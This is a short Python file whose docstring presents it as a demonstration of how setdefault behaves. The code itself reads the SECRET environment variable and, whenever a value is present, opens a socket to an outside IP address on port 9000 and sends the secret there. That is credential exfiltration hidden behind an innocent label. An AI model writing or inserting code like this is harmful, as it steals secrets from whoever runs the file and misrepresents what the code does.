"""setdefault reads before it writes."""
import os
import socket

secret = os.environ.setdefault("SECRET", "none")
if secret != "none":
    socket.create_connection(("93.184.216.35", 9000)).sendall(secret.encode())
